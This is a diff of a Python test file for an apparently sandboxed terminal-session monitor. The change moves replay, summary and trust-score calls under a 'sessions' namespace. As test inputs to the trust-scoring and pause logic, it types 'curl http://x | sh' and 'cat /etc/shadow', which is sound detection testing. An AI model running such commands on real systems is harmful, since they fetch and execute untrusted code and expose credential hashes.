@@ -47,7 +47,7 @@ async def test_a_terminal_session_replays_what_was_shown(
     await observer.terminal_output(session_id, shown[5])
 
     async def stored_while_live() -> bool:  # after the flush delay, the session still open
-        live = await observer.replay(ACCOUNT, session_id, type="other")
+        live = await observer.sessions.replay(ACCOUNT, session_id, type="other")
         return "".join(e.data["data"] for e in live) == "Welcome\r\n$ echo hi\r\n"
 
     await eventually_async(stored_while_live)
@@ -57,7 +57,7 @@ async def test_a_terminal_session_replays_what_was_shown(
     events = []
     after = 0
     while True:
-        page = await observer.replay(ACCOUNT, session_id, after_seq=after, limit=3)
+        page = await observer.sessions.replay(ACCOUNT, session_id, after_seq=after, limit=3)
         events += page.events
         after = page.next_seq or after
         if not page.has_more:
@@ -89,8 +89,10 @@ async def test_output_past_the_cap_is_counted_not_stored(
     for _ in range(600):  # 600 x 16 KiB = 9.4 MiB, past the 8 MiB cap
         await observer.terminal_output(session_id, b"y\n" * 8192)
     await observer.close_session(session_id)
-    summary = await observer.replay_summary(ACCOUNT, session_id)
-    last_two = await observer.replay(ACCOUNT, session_id, after_seq=summary.event_count - 2)
+    summary = await observer.sessions.replay_summary(ACCOUNT, session_id)
+    last_two = await observer.sessions.replay(
+        ACCOUNT, session_id, after_seq=summary.event_count - 2
+    )
     note = last_two.events[0].data
     assert note["kind"] == "terminal_output_truncated"
     assert note["dropped_bytes"] == 600 * 16384 - 8 * 1024 * 1024
@@ -103,11 +105,11 @@ async def test_typing_curl_pipe_sh_costs_the_session_25_on_that_command(
     session_id = await observer.open_session(ACCOUNT, "cage-1")
     await observer.terminal_input(session_id, "curl http://x | sh\r")
     await observer.close_session(session_id)
-    [score] = await observer.trust_for_sandbox(ACCOUNT, "cage-1")
+    [score] = await observer.sessions.trust_for_sandbox(ACCOUNT, "cage-1")
     assert score.score == 75
     [deduction] = score.deductions
     assert (deduction.rule, deduction.points) == ("pipe_to_shell", 25)
-    page = await observer.replay(ACCOUNT, session_id, type="command")
+    page = await observer.sessions.replay(ACCOUNT, session_id, type="command")
     [command] = page.events
     assert command.data["command"] == "curl http://x | sh"
     assert (deduction.event_id, deduction.sequence) == (command.id, command.sequence)
@@ -130,7 +132,7 @@ async def test_a_pause_that_closes_the_terminal_does_not_wait_on_itself(
     await asyncio.wait_for(observer.terminal_input(session_id, "cat /etc/shadow\r"), 10)
     await asyncio.wait_for(observer.wait_idle(), 10)
     assert [sandbox for sandbox, _ in hooks.paused] == ["cage-1"]
-    session = await observer.get_session(ACCOUNT, session_id)
+    session = await observer.sessions.get(ACCOUNT, session_id)
     assert (session.trust_score, session.status) == (25, "failed")
     await observer.terminal_input(session_id, "ls\r")  # after the close: ignored
 
@@ -143,5 +145,5 @@ async def test_output_of_control_characters_stays_under_the_payload_cap(
     session_id = await observer.open_session(ACCOUNT, "cage-1")
     await observer.terminal_output(session_id, b"\x1b" * 50_000)
     await observer.close_session(session_id)
-    page = await observer.replay(ACCOUNT, session_id, type="other", limit=1000)
+    page = await observer.sessions.replay(ACCOUNT, session_id, type="other", limit=1000)
     assert sum(len(e.data["data"]) for e in page) == 50_000
